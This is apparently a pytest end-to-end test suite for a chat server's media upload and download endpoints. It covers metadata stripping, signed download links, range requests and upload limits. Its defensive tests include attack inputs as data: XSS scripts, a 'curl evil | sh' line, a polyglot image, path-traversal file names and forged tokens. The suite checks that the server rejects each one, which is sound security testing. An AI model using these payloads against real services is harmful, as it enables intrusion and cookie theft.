"""Media end to end (issue 12, phase 1): a real server, real files, real HTTP.

Uploads through ``POST /api/v1/media`` (the SDK's ``upload`` and raw sockets), downloads
through the signed ``/media/{mediaId}`` links, and what lies on disk afterwards.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import sqlite3
import time
import uuid
import wave
from pathlib import Path

import httpx
import pytest
from PIL import Image

from client.sdk import RestClient, ServerError
from server.media.links import LinkSigner, derive_link_key
from tests.conftest import ServerProcess, World
from tests.pg import ON_POSTGRES, cluster, stored_bytes

MB = 1024 * 1024


def jpeg_with_gps(size: tuple[int, int] = (64, 48)) -> bytes:
    image = Image.new("RGB", size, (10, 120, 200))
    exif = Image.Exif()
    exif[0x010E] = "EXIF-DESCRIPTION-MARKER"
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (48.0, 51.0, 29.0)
    gps[3] = "E"
    gps[4] = (2.0, 17.0, 40.0)
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (250, 200, 0)).save(out, format="PNG")
    return out.getvalue()


def wav(seconds: float = 2.0) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(48_000)
        w.writeframes(os.urandom(int(48_000 * seconds) * 2))
    return out.getvalue()


async def user_client(world: World, prefix: str = "m") -> tuple[str, RestClient]:
    uid = await world.user(prefix)
    return uid, world.user_rest(await world.token(uid))


def link_signer(server: ServerProcess) -> LinkSigner:
    secret = json.loads((server.data_dir / "secrets.json").read_text())["jwt_secret"]
    return LinkSigner(derive_link_key(secret))


def account_of(server: ServerProcess, uid: str) -> str:
    """The user's account id (never on the wire), read from the server's database."""
    assert uid.replace("-", "").replace("_", "").isalnum()
    if ON_POSTGRES:
        url = cluster().database(str(server.data_dir.resolve()))
        return cluster().psql(f"SELECT account FROM users WHERE uid = '{uid}'", url).strip()
    with sqlite3.connect(server.data_dir / "parley.db") as conn:
        row = conn.execute("SELECT account FROM users WHERE uid = ?", (uid,)).fetchone()
    return str(row[0])


def all_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


async def test_file_round_trip_and_headers(world: World) -> None:
    uid, rest = await user_client(world)
    data = b"minutes of the meeting\n" * 5000  # several 64 KiB chunks
    async with rest:
        up = await rest.upload(data, name="notes.txt", content_type="text/plain")
        assert up["name"] == "notes.txt"
        assert (up["mimeType"], up["size"], up["kind"]) == ("text/plain", len(data), "file")
        assert up["mediaId"].startswith("m") and up["url"].startswith(f"/media/{up['mediaId']}?")
        assert "thumbnailUrl" not in up
        assert await rest.download(up["url"]) == data
        again = await rest.media(up["mediaId"])
        assert again["size"] == len(data) and await rest.download(again["url"]) == data
    async with httpx.AsyncClient(base_url=world.server.url) as http:
        r = await http.get(up["url"])
    assert r.status_code == 200
    assert r.headers["content-type"].startswith("text/plain")
    assert r.headers["content-disposition"].startswith('attachment; filename="notes.txt"')
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers.get_list("content-security-policy") == ["default-src 'none'; sandbox"]
    assert r.headers["accept-ranges"] == "bytes"


async def test_api_key_upload_for_a_user(world: World) -> None:
    uid = await world.user("k")
    up = await world.rest.upload(b"%PDF-1.4\n%\xe2\xe3\n", name="a.pdf", uploader=uid)
    assert up["mimeType"] == "application/pdf"
    with pytest.raises(ServerError) as info:
        await world.rest.upload(b"x", name="a.txt")
    assert info.value.status == 400
    with pytest.raises(ServerError) as info:
        await world.rest.upload(b"x", name="a.txt", uploader="nobody-" + uuid.uuid4().hex[:6])
    assert info.value.status == 404


async def test_image_is_reencoded_without_exif_and_has_a_thumbnail(
    world: World, tmp_path: Path
) -> None:
    uid, rest = await user_client(world)
    src = tmp_path / "holiday.jpeg"
    src.write_bytes(jpeg_with_gps((800, 600)))
    with Image.open(src) as original:
        assert original.getexif().get_ifd(0x8825)  # the GPS position is there
    async with rest:
        up = await rest.upload(src, content_type="image/jpeg")
        assert (up["mimeType"], up["kind"], up["width"], up["height"]) == (
            "image/jpeg",
            "image",
            800,
            600,
        )
        body = await rest.download(up["url"])
        thumb = await rest.download(up["thumbnailUrl"])
    assert len(body) == up["size"]
    image = Image.open(io.BytesIO(body))
    assert image.size == (800, 600)
    assert not image.getexif()
    assert b"EXIF-DESCRIPTION-MARKER" not in body and b"Exif" not in body
    assert Image.open(io.BytesIO(thumb)).size == (320, 240)
    async with httpx.AsyncClient(base_url=world.server.url) as http:
        r = await http.get(up["url"])
        t = await http.get(up["thumbnailUrl"])
    assert r.headers["content-type"] == "image/jpeg"
    assert r.headers["content-disposition"].startswith("inline;")
    assert t.headers["content-type"] == "image/jpeg"


@pytest.mark.parametrize(
    ("content", "name", "ctype"),
    [
        (
            b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
            "cat.png",
            "image/png",
        ),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "cat.png", "image/png"),
        (b"#!/bin/sh\ncurl evil | sh\n", "song.mp3", "audio/mpeg"),
        (png(), "movie.mp4", "video/mp4"),
    ],
)
async def test_spoofed_types_are_refused(
    world: World, content: bytes, name: str, ctype: str
) -> None:
    uid, rest = await user_client(world)
    async with rest:
        with pytest.raises(ServerError) as info:
            await rest.upload(content, name=name, content_type=ctype)
    assert info.value.status == 415
    assert "not an allowed" in info.value.message
    assert not any((world.server.data_dir / "media" / "tmp").iterdir())


async def test_kind_parameter_overrides_the_name(world: World) -> None:
    uid, rest = await user_client(world)
    async with rest:
        with pytest.raises(ServerError) as info:
            await rest.upload(b"<html></html>", name="page.txt", kind="image")
        assert info.value.status == 415 and info.value.details["detected"] == "text/html"
        as_file = await rest.upload(b"<html></html>", name="page.html", kind="file")
        assert as_file["mimeType"] == "text/plain"  # never served as HTML


async def test_polyglot_is_defused_by_reencoding(world: World) -> None:
    uid, rest = await user_client(world)
    payload = b"PK\x03\x04POLYGLOT-PAYLOAD<script>alert(1)</script>"
    async with rest:
        up = await rest.upload(png() + payload, name="innocent.png", content_type="image/png")
        body = await rest.download(up["url"])
    assert up["mimeType"] == "image/png"
    assert b"POLYGLOT-PAYLOAD" not in body and b"PK\x03\x04" not in body
    assert body.endswith(b"IEND\xaeB`\x82")
    assert Image.open(io.BytesIO(body)).size == (40, 30)


async def test_traversal_names_are_sanitised(world: World) -> None:
    uid, rest = await user_client(world)
    before = {p.name for p in world.server.data_dir.parent.iterdir()}
    async with rest:
        for raw, clean in [
            ("../../../../etc/passwd", "passwd"),
            ("..\\..\\..\\boot.ini", "boot.ini"),
            ("..", "file"),
            ("evil\u202egnp.exe", "evilgnp.exe"),
        ]:
            up = await rest.upload(b"x", name=raw)
            assert up["name"] == clean
            async with httpx.AsyncClient(base_url=world.server.url) as http:
                r = await http.get(up["url"])
            assert f'filename="{clean}"' in r.headers["content-disposition"]
    assert {p.name for p in world.server.data_dir.parent.iterdir()} == before
    assert not (world.server.data_dir / "passwd").exists()


async def test_every_token_failure(world: World) -> None:
    alice, rest_a = await user_client(world, "alice")
    bob, rest_b = await user_client(world, "bob")
    server = world.server
    async with rest_a, rest_b, httpx.AsyncClient(base_url=server.url) as http:
        one = await rest_a.upload(png(), name="one.png")
        two = await rest_a.upload(b"two", name="two.txt")
        media_id = one["mediaId"]
        token = one["url"].split("token=")[1]
        assert (await http.get(one["url"])).status_code == 200

        async def status(path: str, tok: str | None) -> tuple[int, str]:
            r = await http.get(path, params={} if tok is None else {"token": tok})
            return r.status_code, r.json()["code"]

        path = f"/media/{media_id}"
        assert await status(path, None) == (401, "ERR_AUTH_REQUIRED")
        assert await status(path, "") == (401, "ERR_AUTH_REQUIRED")
        assert await status(path, "garbage") == (401, "ERR_AUTH_INVALID")
        sig = token.rsplit(".", 1)[1]
        tampered = token[: -len(sig)] + ("A" if sig[0] != "A" else "B") + sig[1:]
        assert await status(path, tampered) == (401, "ERR_AUTH_INVALID")
        longer = token.replace(f".{alice}.", f".{bob}.")  # claims to be bob's
        assert await status(path, longer) == (401, "ERR_AUTH_INVALID")
        exp = int(token.split(".")[1])
        later = token.replace(f"1.{exp}.", f"1.{exp + 3600}.")  # extended by hand
        assert await status(path, later) == (401, "ERR_AUTH_INVALID")
        # A token for another file, and for another variant of this one.
        assert await status(f"/media/{two['mediaId']}", token) == (401, "ERR_AUTH_INVALID")
        assert await status(f"{path}/thumbnail", token) == (401, "ERR_AUTH_INVALID")
        thumb_token = one["thumbnailUrl"].split("token=")[1]
        assert await status(path, thumb_token) == (401, "ERR_AUTH_INVALID")

        # Signed with the server's own key: expired, and issued to a viewer who may not see it.
        signer = link_signer(server)
        past = int(time.time()) - 5
        expired = signer.sign(media_id, "original", alice, account_of(server, alice), past)
        r = await http.get(path, params={"token": expired})
        assert (r.status_code, r.json()["details"]["reason"]) == (401, "expired")
        future = int(time.time()) + 600
        for_bob = signer.sign(media_id, "original", bob, account_of(server, bob), future)
        assert await status(path, for_bob) == (403, "ERR_FORBIDDEN")
        # Bob gets no link for it either, and an unknown id is just not found.
        with pytest.raises(ServerError) as info:
            await rest_b.media(media_id)
        assert info.value.status == 404
        unknown = "m" + "0" * 32
        assert (await http.get(f"/media/{unknown}", params={"token": token})).status_code == 401
        assert (await http.get("/media/..%2f..%2fkeys.json")).status_code == 404

        # The token dies with the viewer's account.
        await world.rest.delete_user(alice, erase=True)
        assert await status(path, token) == (401, "ERR_AUTH_INVALID")


async def test_range_requests(world: World) -> None:
    uid, rest = await user_client(world)
    data = wav(3.0)  # ~288 KB: five 64 KiB chunks
    async with rest:
        up = await rest.upload(data, name="voice.wav", content_type="audio/wav")
        assert (up["mimeType"], up["kind"], up["size"]) == ("audio/wav", "audio", len(data))
        url = up["url"]
        assert await rest.download(url, byte_range=(100, 199)) == data[100:200]
    size = len(data)
    async with httpx.AsyncClient(base_url=world.server.url) as http:
        for header, first, last in [
            ("bytes=0-0", 0, 0),
            ("bytes=65530-131080", 65530, 131080),  # across chunk boundaries
            ("bytes=200000-", 200000, size - 1),
            ("bytes=-10", size - 10, size - 1),
            (f"bytes=5-{size + 1000}", 5, size - 1),
        ]:
            r = await http.get(url, headers={"Range": header})
            assert r.status_code == 206, header
            assert r.headers["content-range"] == f"bytes {first}-{last}/{size}"
            assert r.content == data[first : last + 1]
            assert r.headers["content-type"] == "audio/wav"
        r = await http.get(url, headers={"Range": f"bytes={size}-"})
        assert r.status_code == 416
        assert r.headers["content-range"] == f"bytes */{size}"
        r = await http.get(url, headers={"Range": "bytes=0-1,5-6"})  # several: the whole file
        assert r.status_code == 200 and r.content == data
        r = await http.head(url)
        assert r.status_code == 200 and r.headers["content-length"] == str(size)


async def _raw_upload(
    server: ServerProcess,
    token: str,
    *,
    declared: int,
    send: int,
    query: str = "",
    pace: float = 0.0,
) -> tuple[bytes, int]:
    """Send a multipart upload by hand: headers declaring ``declared`` body bytes, then up
    to ``send`` bytes of a PNG-typed part, stopping as soon as the server answers.

    Returns the server's answer and how many body bytes had been sent when it came."""
    boundary = "b" + uuid.uuid4().hex
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"'
        "\r\nContent-Type: image/png\r\n\r\n"
    ).encode()
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    writer.write(
        (
            f"POST /api/v1/media{query} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            f"Authorization: Bearer {token}\r\n"
            f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
            f"Content-Length: {declared}\r\n\r\n"
        ).encode()
    )
    answer = asyncio.create_task(reader.read(65536))
    sent = 0
    piece = png() + b"\x00" * (256 * 1024 - len(png()))
    chunk = head + piece
    try:
        while sent < send and not answer.done():
            writer.write(chunk[: send - sent])
            sent += len(chunk[: send - sent])
            chunk = b"\x00" * (256 * 1024)
            await asyncio.wait([answer], timeout=pace)
            if not answer.done():
                await asyncio.wait_for(writer.drain(), 10)
    except (ConnectionError, TimeoutError):
        pass
    data = await asyncio.wait_for(answer, 10)
    while b"\r\n\r\n" not in data or not data.rstrip().endswith(b"}"):
        more = await asyncio.wait_for(reader.read(65536), 10)
        if not more:
            break
        data += more
    writer.close()
    return data, sent


async def test_oversized_upload_is_refused_early(world: World) -> None:
    uid = await world.user("big")
    token = await world.token(uid)
    declared = 30 * MB
    # Declared too large for the kind: refused before a byte of the body is read.
    answer, sent = await _raw_upload(
        world.server, token, declared=declared, send=0, query="?kind=image"
    )
    assert answer.startswith(b"HTTP/1.1 413")
    assert b'"limit":%d' % (20 * MB) in answer  # the configured limit, not the framing slack
    # Declared within the largest limit (video, 200 MB): refused once the image limit (20 MB)
    # is passed, while the client is still sending, not after its 30 MB.
    answer, sent = await _raw_upload(
        world.server, token, declared=declared, send=declared, pace=0.001
    )
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"ERR_TOO_LARGE" in answer
    assert 20 * MB < sent < 28 * MB, sent
    deadline = time.monotonic() + 5
    while any((world.server.data_dir / "media" / "tmp").iterdir()):
        assert time.monotonic() < deadline, "the refused upload's temp file stayed"
        await asyncio.sleep(0.05)


async def test_no_plaintext_under_the_data_dir(world: World, tmp_path: Path) -> None:
    uid, rest = await user_client(world)
    canary = ("CANARY-" + uuid.uuid4().hex).encode()
    text = b"".join(b"line %d %s\n" % (i, canary) for i in range(20_000))  # ~1 MB, many chunks
    image = io.BytesIO()
    exif = Image.Exif()
    exif[0x010E] = canary.decode()
    Image.new("RGB", (50, 50)).save(image, format="JPEG", exif=exif)
    async with rest:
        a = await rest.upload(text, name=f"{canary.decode()}.txt")
        b = await rest.upload(image.getvalue(), name="c.jpg", content_type="image/jpeg")
        # An upload refused half-way leaves nothing either.
        with pytest.raises(ServerError):
            await rest.upload(canary + b"<html>", name="x.png", content_type="image/png")
        assert canary in await rest.download(a["url"])
        await rest.download(b["url"])
    await asyncio.sleep(0.2)
    files = all_files(world.server.data_dir)
    assert ON_POSTGRES or any(p.name.endswith("-wal") for p in files)
    leaks = [str(p) for p in files if canary in p.read_bytes()]
    assert not leaks, leaks
    assert canary not in stored_bytes(world.server.data_dir)  # the database, on any backend
    assert (world.server.data_dir / "media").stat().st_mode & 0o777 == 0o700
    for p in all_files(world.server.data_dir / "media"):
        assert p.stat().st_mode & 0o777 == 0o600, p


def mp4(seconds: int = 2, fps: int = 10, size: tuple[int, int] = (320, 240)) -> bytes:
    """A real MP4 (MPEG-4 Part 2 video), encoded with PyAV."""
    import av
    import numpy as np

    out = io.BytesIO()
    with av.open(out, mode="w", format="mp4") as container:
        stream = container.add_stream("mpeg4", rate=fps)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p"
        for i in range(seconds * fps):
            pixels = np.full((size[1], size[0], 3), (i * 20) % 255, dtype=np.uint8)
            for packet in stream.encode(av.VideoFrame.from_ndarray(pixels, format="rgb24")):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


async def test_video_gets_a_poster_with_the_video_extra(world: World) -> None:
    pytest.importorskip("av", reason="posters need the 'video' extra (PyAV)")
    uid, rest = await user_client(world)
    data = mp4()
    async with rest:
        up = await rest.upload(data, name="clip.mov", content_type="video/mp4")
        assert (up["mimeType"], up["kind"], up["name"]) == ("video/mp4", "video", "clip.mp4")
        assert (up["width"], up["height"], up["duration"]) == (320, 240, 2.0)
        assert await rest.download(up["url"]) == data  # videos are stored as uploaded
        poster = Image.open(io.BytesIO(await rest.download(up["thumbnailUrl"])))
        assert poster.size == (320, 240)
        voice = await rest.upload(wav(1.0), name="v.wav", content_type="audio/wav")
        assert voice["duration"] == 1.0 and "thumbnailUrl" not in voice
        # MP4 magic bytes but nothing PyAV can play: refused.
        with pytest.raises(ServerError) as info:
            await rest.upload(
                b"\x00\x00\x00\x18ftypmp42" + os.urandom(4000), name="x.mp4", kind="video"
            )
        assert info.value.status == 415
